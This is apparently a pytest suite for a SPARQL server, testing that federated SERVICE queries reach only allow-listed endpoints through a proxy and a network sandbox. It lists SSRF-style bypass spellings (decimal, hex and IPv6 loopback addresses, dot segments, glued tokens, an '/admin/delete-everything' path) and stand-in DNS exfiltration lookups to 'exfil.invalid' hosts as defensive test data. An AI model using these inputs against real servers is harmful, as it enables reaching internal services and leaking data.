"""Federated queries: SERVICE reaches allow-listed endpoints only, with its own timeout.

Local servers on 127.0.0.1 stand in for Wikidata and the EU Publications Office:
the cookbook's queries (docs/federation/*.rq) run with the real endpoint IRIs
replaced by the stand-ins, and must return the answers the cookbook shows.

A counting listener stands in for one more allow-listed endpoint: a SERVICE to
any other path on its host and port, any other spelling of its host, or one the
token layer does not see, reaches it 0 times; the federation workers connect to
the federation proxy only and send nothing to a resolver.
"""
import collections
import http.client
import http.server
import json
import shutil
import subprocess
import sys
import threading
import time
from pathlib import Path

import pyoxigraph
import pytest

from conftest import DATA, REPO
from test_live_server import curl, free_port, stop, wait_healthy

pytestmark = pytest.mark.live
COOKBOOK = sorted((REPO / "docs" / "federation").glob("*.rq"))
REAL = {"wikidata": "https://query.wikidata.org/sparql", "eu": "https://publications.europa.eu/webapi/rdf/sparql"}
IJDP = Path(sys.executable).with_name("ijdp")


def serve(args, log):
    port = free_port()
    base = f"http://127.0.0.1:{port}/"
    process = subprocess.Popen([str(IJDP), "serve", "--port", str(port), *args], stdout=open(log, "wb"),
                               stderr=subprocess.STDOUT)
    wait_healthy(base, process)
    return process, base


class Endpoint:
    """A stand-in SPARQL endpoint on 127.0.0.1 that counts requests by (path, Host) and answers one row.

    /redirect answers a redirect to /admin, /big an answer of 2 MB; every other path the row.
    """

    ROW = json.dumps({"head": {"vars": ["x"]},
                      "results": {"bindings": [{"x": {"type": "literal", "value": "remote"}}]}}).encode()

    def __init__(self):
        owner = self
        self.seen, self.requests, self.connections = collections.Counter(), [], 0

        class Handler(http.server.BaseHTTPRequestHandler):
            protocol_version = "HTTP/1.1"

            def do_GET(self):  # noqa: N802
                self._answer(b"")

            def do_POST(self):  # noqa: N802
                self._answer(self.rfile.read(int(self.headers.get("Content-Length") or 0)))

            def _answer(self, body):
                path = self.path.partition("?")[0]
                owner.seen[(path, self.headers.get("Host"))] += 1
                owner.requests.append((self.command, self.path, dict(self.headers), body))
                if path == "/redirect":
                    self.send_response(302)
                    self.send_header("Location", "/admin")
                    self.send_header("Content-Length", "0")
                    self.end_headers()
                    return
                answer = b" " * 2_000_000 + owner.ROW if path == "/big" else owner.ROW
                self.send_response(200)
                self.send_header("Content-Type", "application/sparql-results+json")
                self.send_header("Content-Length", str(len(answer)))
                self.end_headers()
                self.wfile.write(answer)

            def log_message(self, *args):
                pass

        class Server(http.server.ThreadingHTTPServer):
            daemon_threads = True

            def verify_request(self, request, client_address):
                owner.connections += 1
                return True

        self.server = Server(("127.0.0.1", 0), Handler)
        self.port = self.server.server_address[1]
        self.host = f"127.0.0.1:{self.port}"
        self.url = f"http://{self.host}/sparql"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def reset(self):
        self.seen.clear()
        self.requests.clear()
        self.connections = 0

    def close(self):
        self.server.shutdown()
        self.server.server_close()


@pytest.fixture(scope="module")
def endpoint():
    found = Endpoint()
    yield found
    found.close()


@pytest.fixture(scope="module")
def federation(dist, tmp_path_factory, endpoint):
    tmp = tmp_path_factory.mktemp("federation")
    processes, endpoints = [], {}
    try:
        for name, fixture in (("wikidata", "wikidata.ttl"), ("eu", "eu-authority.ttl")):
            store = pyoxigraph.Store(str(tmp / name))
            store.load(path=str(DATA / "stand-ins" / fixture), format=pyoxigraph.RdfFormat.TURTLE)
            store.flush()
            del store
            process, base = serve(["--store", str(tmp / name), "--query-timeout", "6"], tmp / f"{name}.log")
            processes.append(process)
            endpoints[name] = base + "sparql"
        process, base = serve(["--dist", str(dist), "--allow-service", endpoints["wikidata"],
                               "--allow-service", endpoints["eu"], "--allow-service", endpoint.url,
                               "--service-timeout", "3"], tmp / "local.log")
        processes.append(process)
        yield base, endpoints
    finally:
        for process in processes:
            stop(process)


def rows(output: str):
    data = json.loads(output)
    return [{k: v["value"] for k, v in b.items()} for b in data["results"]["bindings"]]


@pytest.mark.parametrize("query", COOKBOOK, ids=[q.stem for q in COOKBOOK])
def test_cookbook_query_returns_what_the_cookbook_shows(federation, query):
    base, endpoints = federation
    text = query.read_text()
    for name, real in REAL.items():
        text = text.replace(real, endpoints[name])
    out = curl("-H", "Accept: application/sparql-results+json", "--data-urlencode", f"query={text}", base + "sparql")
    expected = json.loads(query.with_suffix(".expected.json").read_text())
    assert rows(out.stdout) == expected


def test_real_endpoints_are_refused_unless_allowed(federation):
    base, _ = federation
    text = COOKBOOK[0].read_text()  # names the real Wikidata endpoint, not on this server's allow-list
    out = curl("-o", "/dev/null", "-w", "%{http_code}", "--data-urlencode", f"query={text}", base + "sparql")
    assert out.stdout == "403"


def test_service_has_its_own_timeout(federation):
    base, endpoints = federation
    slow = ("SELECT * WHERE { SERVICE <%s> { SELECT (COUNT(*) AS ?n) WHERE "
            "{ ?a ?b ?c . ?d ?e ?f . ?g ?h ?i . ?j ?k ?l . ?m ?n1 ?o . ?p ?q ?r . ?s ?t ?u . ?v ?w ?x . ?y ?z ?zz ."
            " ?y1 ?z2 ?z3 . ?y4 ?z5 ?z6 } } }"
            % endpoints["wikidata"])
    out = curl("-o", "/dev/null", "-w", "%{http_code} %{time_total}", "--data-urlencode", f"query={slow}", base + "sparql")
    status, seconds = out.stdout.split()
    assert status == "503" and float(seconds) < 10  # the stand-in needs about 18 s for this (it stops itself at 6 s)


def test_cookbook_document_shows_the_checked_answers():
    text = (REPO / "docs" / "federation.md").read_text()
    for query in COOKBOOK:
        assert query.read_text().strip() in text
        for row in json.loads(query.with_suffix(".expected.json").read_text()):
            assert "| " + " | ".join(row.values()) + " |" in text


# ------------------------------------------------------------------ the allow-list holds per endpoint

def spelled(text, endpoint):
    return text.replace("{url}", endpoint.url).replace("{host}", endpoint.host).replace("{port}", str(endpoint.port))


def answer(base, query):
    out = curl("-w", "\n%{http_code}", "-H", "Accept: application/sparql-results+json", "--data-urlencode",
               f"query={query}", base + "sparql")
    body, _, status = out.stdout.rpartition("\n")
    return status, body


ALLOWED_SPELLINGS = {
    "the IRI": ("", "SERVICE <{url}>"),
    "SILENT": ("", "SERVICE SILENT <{url}>"),
    "a prefixed name": ("PREFIX e: <http://{host}/>", "SERVICE e:sparql"),
    "relative to BASE": ("BASE <http://{host}/a/b>", "SERVICE <../sparql>"),
    "an escape inside the IRI": ("", "SERVICE <http://{host}/sp\\u0061rql>"),
}


@pytest.mark.parametrize("name", sorted(ALLOWED_SPELLINGS))
def test_the_allowed_endpoint_answers_through_the_proxy(federation, endpoint, name):
    base, _ = federation
    prologue, service = ALLOWED_SPELLINGS[name]
    endpoint.reset()
    query = spelled(f"{prologue} SELECT ?x WHERE {{ {service} {{ ?x ?y ?z }} }}", endpoint)
    status, body = answer(base, query)
    assert status == "200" and rows(body) == [{"x": "remote"}]
    assert endpoint.seen == {("/sparql", endpoint.host): 1}
    method, target, headers, sent = endpoint.requests[0]
    # pyoxigraph POSTs the query; the proxy sends on that, the Accept and nothing else of the worker's.
    assert (method, target, headers["Content-Type"]) == ("POST", "/sparql", "application/sparql-query")
    assert "SELECT * WHERE { ?x ?y ?z . }" in sent.decode()
    assert {k.lower() for k in headers} <= {"host", "accept", "accept-encoding", "content-type", "content-length",
                                            "user-agent", "connection"}


# Each is sent beside a SERVICE to the allowed endpoint, so that the query goes to the federation workers.
HOSTILE = {
    "another path": ("", "SERVICE <http://{host}/admin/delete-everything?confirm=yes> { ?a ?b ?c }"),
    "dot segments": ("", "SERVICE <http://{host}/../../etc> { ?a ?b ?c }"),
    "dot segments after the path": ("", "SERVICE <http://{host}/sparql/../admin> { ?a ?b ?c }"),
    "a query string": ("", "SERVICE <http://{host}/sparql?x=1> { ?a ?b ?c }"),
    "a fragment": ("", "SERVICE <http://{host}/sparql#x> { ?a ?b ?c }"),
    "a trailing slash": ("", "SERVICE <http://{host}/sparql/> { ?a ?b ?c }"),
    "localhost": ("", "SERVICE <http://localhost:{port}/sparql> { ?a ?b ?c }"),
    "a decimal address": ("", "SERVICE <http://2130706433:{port}/sparql> { ?a ?b ?c }"),
    "a hexadecimal address": ("", "SERVICE <http://0x7f000001:{port}/sparql> { ?a ?b ?c }"),
    "a mapped IPv6 address": ("", "SERVICE <http://[::ffff:127.0.0.1]:{port}/sparql> { ?a ?b ?c }"),
    "upper-case scheme": ("", "SERVICE <HTTP://{host}/sparql> { ?a ?b ?c }"),
    "relative to BASE": ("BASE <http://{host}/sparql>", "SERVICE <admin> { ?a ?b ?c }"),
    "a prefixed name": ("PREFIX e: <http://{host}/>", "SERVICE e:admin { ?a ?b ?c }"),
    "an escape inside the IRI": ("", "SERVICE <http://{host}/\\u0061dmin> { ?a ?b ?c }"),
    "a variable": ("", "SERVICE ?where { ?a ?b ?c }"),
    "glued PREFIX": ("PREFIXex:<http://{host}/admin/>", "SERVICE ex:x { ?a ?b ?c }"),
    "glued SERVICE": ("PREFIX ex: <http://{host}/admin/>", "SERVICEex:x { ?a ?b ?c }"),
    "glued PREFIX and SERVICE": ("PREFIXex:<http://{host}/admin/>", "SERVICEex:x { ?a ?b ?c }"),
    "glued empty prefix": ("PREFIX : <http://{host}/admin/>", "SERVICE:x { ?a ?b ?c }"),
    "a number then a dot": ("", "?s ?p 2.SERVICE <http://{host}/admin> { ?a ?b ?c }"),
    "the allowed URL, hidden": ("", "?s ?p 2.SERVICE <http://{host}/sparql> { ?a ?b ?c }"),
    "the proxy's path on the endpoint": ("", "SERVICE <http://{host}/endpoint/0> { ?a ?b ?c }"),
}


@pytest.mark.parametrize("name", sorted(HOSTILE))
def test_no_other_path_or_spelling_of_the_allowed_host_is_reached(federation, endpoint, name):
    base, _ = federation
    prologue, pattern = HOSTILE[name]
    endpoint.reset()
    query = spelled(f"{prologue} SELECT * WHERE {{ SERVICE <{{url}}> {{ ?x ?y ?z }} {pattern} }}", endpoint)
    status, body = answer(base, query)
    # A hidden SERVICE to the allowed URL itself is refused by the sandbox, or routed once the lexer sees it.
    assert status in ("400", "403") or (status == "200" and name == "the allowed URL, hidden"), body
    # The allowed endpoint may have been asked (through the proxy); nothing else was.
    assert set(endpoint.seen) <= {("/sparql", endpoint.host)}
    assert endpoint.connections == sum(endpoint.seen.values())


@pytest.fixture(scope="module")
def proxy(endpoint):
    from ijdp.federation import Proxy

    allowed = (endpoint.url, f"http://{endpoint.host}/big", f"http://{endpoint.host}/redirect", "http://127.0.0.1:9/")
    found = Proxy(allowed, timeout=5, max_answer_bytes=1_000_000, max_request_bytes=10_000)
    yield found
    found.close()


def through(proxy, method, target, body=None, headers=None):
    port = int(proxy.routes[0].split(":")[2].split("/")[0])
    connection = http.client.HTTPConnection("127.0.0.1", port, timeout=10)
    connection.request(method, target, body=body, headers=headers or {})
    response = connection.getresponse()
    found = response.status, response.getheader("Location"), response.read()
    connection.close()
    return found


@pytest.mark.parametrize("target", ["/", "/sparql", "/admin/delete-everything?confirm=yes", "/endpoint",
                                    "/endpoint/", "/endpoint/4", "/endpoint/00", "/endpoint/+0", "/endpoint/0/",
                                    "/endpoint/0/../0", "/endpoint/%30", "//endpoint/0", "/Endpoint/0",
                                    "/endpoint/0;x", "/endpoint/0%00", "/ENDPOINT/0?query=ASK{}",
                                    "http://127.0.0.1:1/endpoint/0"])
def test_the_proxy_answers_404_on_every_other_path_and_forwards_nothing(proxy, endpoint, target):
    endpoint.reset()
    for method in ("GET", "POST"):
        status, _, _ = through(proxy, method, target, body=b"ASK {}" if method == "POST" else None,
                               headers={"Content-Type": "application/sparql-query"})
        assert status == 404
    assert endpoint.connections == 0


def test_the_proxy_forwards_the_protocol_parameters_only(proxy, endpoint):
    endpoint.reset()
    secrets = {"Cookie": "session=1", "Authorization": "Bearer x", "X-Forwarded-For": "10.0.0.1"}
    status, _, body = through(proxy, "GET", "/endpoint/0?query=ASK%7B%7D&default-graph-uri=http%3A%2F%2Fg&evil=1",
                              headers={"Accept": "application/sparql-results+json", **secrets})
    assert status == 200 and json.loads(body) == json.loads(Endpoint.ROW)
    status, _, _ = through(proxy, "POST", "/endpoint/0?named-graph-uri=http%3A%2F%2Fn&query=SELECT%201&x=2",
                           body=b"ASK {}", headers={"Content-Type": "application/sparql-query", **secrets})
    assert status == 200
    status, _, _ = through(proxy, "POST", "/endpoint/0", body=b"query=ASK+%7B%7D&update=DROP+ALL&x=1",
                           headers={"Content-Type": "application/x-www-form-urlencoded", **secrets})
    assert status == 200
    sent = [(method, target, body) for method, target, _, body in endpoint.requests]
    assert sent == [("GET", "/sparql?query=ASK%7B%7D&default-graph-uri=http%3A%2F%2Fg", b""),
                    ("POST", "/sparql?named-graph-uri=http%3A%2F%2Fn", b"ASK {}"),
                    ("POST", "/sparql", b"query=ASK+%7B%7D")]
    for _, _, headers, _ in endpoint.requests:
        assert not set(secrets) & set(headers)
        assert headers["Host"] == endpoint.host
    assert through(proxy, "PUT", "/endpoint/0", body=b"x")[0] == 501
    assert through(proxy, "POST", "/endpoint/0", body=b"x", headers={"Content-Type": "text/turtle"})[0] == 415
    assert through(proxy, "POST", "/endpoint/0", body=b"q" * 20_000,
                   headers={"Content-Type": "application/sparql-query"})[0] == 413
    assert len(endpoint.requests) == 3


def test_the_proxy_caps_answers_follows_no_redirect_and_says_what_failed(proxy, endpoint):
    endpoint.reset()
    status, _, body = through(proxy, "GET", "/endpoint/1?query=ASK%7B%7D")
    assert status == 502 and b"more than 1000000 bytes" in body
    status, location, body = through(proxy, "GET", "/endpoint/2?query=ASK%7B%7D")
    assert status == 502 and location is None and b"not followed" in body
    assert set(endpoint.seen) == {("/big", endpoint.host), ("/redirect", endpoint.host)}
    status, _, body = through(proxy, "GET", "/endpoint/3?query=ASK%7B%7D")
    assert status == 502 and b"http://127.0.0.1:9/ cannot be reached" in body


def test_service_targets_are_rewritten_to_the_proxy_routes():
    from ijdp.federation import Refused, routed

    allowed = ("http://a.example/sparql", "http://b.example/sparql")
    routes = ("http://127.0.0.1:1/endpoint/0", "http://127.0.0.1:1/endpoint/1")
    query = ("PREFIX b: <http://b.example/> SELECT * WHERE { SERVICE <http://a.example/sparql> { ?s ?p ?o } "
             "SERVICE SILENT b:sparql { ?s ?q ?r } }")
    assert routed(query, allowed, routes) == (
        "PREFIX b: <http://b.example/> SELECT * WHERE { SERVICE <http://127.0.0.1:1/endpoint/0> { ?s ?p ?o } "
        "SERVICE SILENT <http://127.0.0.1:1/endpoint/1> { ?s ?q ?r } }")
    for refused in ("SELECT * WHERE { SERVICE <http://c.example/sparql> {} }",
                    "SELECT * WHERE { SERVICE ?x {} }"):
        with pytest.raises(Refused):
            routed(refused, allowed, routes)


def test_errors_name_the_endpoint_not_the_proxy_route(proxy):
    from ijdp.federation import FederationPool
    from ijdp.querypool import Job, Outcome

    class Pool:
        ready, problem = True, ""

        def run(self, job, timeout):
            return Outcome(kind="error", message=f"Error 502 returned by {proxy.routes[3]} with payload: down")

    job = Job(query="SELECT * WHERE { SERVICE <http://127.0.0.1:9/> {} }", results_format=None, graph_format=None,
              max_rows=1)
    outcome = FederationPool(Pool(), proxy).run(job, timeout=5)
    assert outcome.message == "Error 502 returned by http://127.0.0.1:9/ with payload: down"


# ------------------------------------------------------------------ the workers' sandbox

WORKER_SANDBOX = """
import socket
from ijdp import sandbox
proxy = socket.socket()
proxy.bind(("127.0.0.1", 0))
proxy.listen(8)
other = socket.socket()
other.bind(("127.0.0.1", 0))
other.listen(8)
try:
    sandbox.restrict_network(("https://query.wikidata.org/sparql",))
except sandbox.SandboxUnavailable:
    print("host name refused")
sandbox.restrict_network(("http://127.0.0.1:%d/endpoint/0" % proxy.getsockname()[1],))
attempts = {
    "udp send": lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"x", ("127.0.0.1", 5353)),
    "udp to a resolver": lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).connect(("127.0.0.53", 53)),
    "unix socket": lambda: socket.socket(socket.AF_UNIX),
    "ipv6 socket": lambda: socket.socket(socket.AF_INET6),
    "raw socket": lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP),
    "tcp elsewhere": lambda: socket.create_connection(other.getsockname(), timeout=2),
    "name lookup": lambda: socket.getaddrinfo("x.exfil.invalid", 80),
}
for name, attempt in attempts.items():
    try:
        attempt()
        print(name, "went through")
    except OSError:
        print(name, "refused")
socket.create_connection(proxy.getsockname(), timeout=2)
print("proxy reached")
socket.socketpair()
print("socketpair made")
"""


def test_a_federation_worker_reaches_the_proxy_and_nothing_else():
    done = subprocess.run([sys.executable, "-c", WORKER_SANDBOX], capture_output=True, text=True, timeout=60)
    assert done.returncode == 0, done.stderr
    lines = done.stdout.splitlines()
    assert lines[0] == "host name refused"
    assert lines[-2:] == ["proxy reached", "socketpair made"]
    assert len(lines) == 10 and all(line.endswith(" refused") for line in lines[1:-2]), lines


RESOLVER_STAND_IN = '''
import socket, subprocess, sys, threading, time
# In network and mount namespaces of its own: a loopback, and resolv.conf naming a stand-in on it.
subprocess.run(["ip", "link", "set", "lo", "up"], check=True)
subprocess.run(["mount", "--bind", sys.argv[1], "/etc/resolv.conf"], check=True)
resolver = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
resolver.bind(("127.0.0.1", 53))
asked = []

def listen():
    while True:
        asked.append(resolver.recvfrom(4096)[0])

threading.Thread(target=listen, daemon=True).start()
engine = """
import sys, pyoxigraph
from ijdp import sandbox
if sys.argv[1] == "federation":
    sandbox.restrict_network(("http://127.0.0.1:9/endpoint/0",))
elif sys.argv[1] == "query":
    sandbox.restrict_network()
try:
    list(pyoxigraph.Store().query("SELECT * WHERE { SERVICE <http://attacker-label.exfil.invalid/> { ?s ?p ?o } }"))
except OSError as err:
    print(err)
"""
for kind in ("unsandboxed", "federation", "query"):
    before = len(asked)
    subprocess.run([sys.executable, "-c", engine, kind], timeout=60, capture_output=True)
    time.sleep(0.5)
    print(kind, sum(b"attacker-label" in packet for packet in asked[before:]))
'''


@pytest.mark.skipif(not (shutil.which("unshare") and shutil.which("ip")), reason="needs unshare and ip")
def test_no_worker_sends_a_name_to_a_resolver(tmp_path):
    # The machine's resolv.conf stays as it is: the check runs in namespaces of its own, where a
    # stand-in resolver on 127.0.0.1:53 counts the queries that carry the SERVICE host's labels.
    # The engine is asked directly (no token layer), as for a SERVICE the lexer did not see.
    if subprocess.run(["unshare", "-rnm", "true"], capture_output=True).returncode:
        pytest.skip("unshare cannot make network and mount namespaces here")
    conf = tmp_path / "resolv.conf"
    conf.write_text("nameserver 127.0.0.1\noptions timeout:1 attempts:1\n")
    done = subprocess.run(["unshare", "-rnm", sys.executable, "-c", RESOLVER_STAND_IN, str(conf)],
                          capture_output=True, text=True, timeout=120)
    assert done.returncode == 0, done.stderr
    counts = dict(line.split() for line in done.stdout.splitlines())
    assert int(counts["unsandboxed"]) >= 1           # the stand-in hears a lookup made without the sandbox
    assert counts["federation"] == "0" and counts["query"] == "0"


def test_the_proxy_ends_an_exchange_with_a_trickling_endpoint_at_its_timeout():
    """An allow-listed endpoint that sends a byte every 0.2 s for ever: the proxy answers 504 at its timeout."""
    import socket
    import threading

    from ijdp.federation import Proxy

    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen(4)
    stop = threading.Event()

    def trickle():
        connection, _ = listener.accept()
        connection.recv(65536)
        connection.sendall(b"HTTP/1.1 200 OK\r\nContent-Type: text/plain\r\n\r\n")
        for _ in range(200):                       # bounded: 40 s at most
            if stop.wait(0.2):
                break
            try:
                connection.sendall(b"x")
            except OSError:
                break
        connection.close()

    threading.Thread(target=trickle, daemon=True).start()
    proxy = Proxy((f"http://127.0.0.1:{listener.getsockname()[1]}/sparql",), timeout=1.5,
                  max_answer_bytes=1_000_000, max_request_bytes=10_000)
    try:
        started = time.monotonic()
        status, _, body = through(proxy, "GET", "/endpoint/0?query=ASK%7B%7D")
        assert status == 504 and b"did not answer within 1.5 s" in body
        assert time.monotonic() - started < 10        # the trickle alone would last 40 s
    finally:
        stop.set()
        proxy.close()
        listener.close()
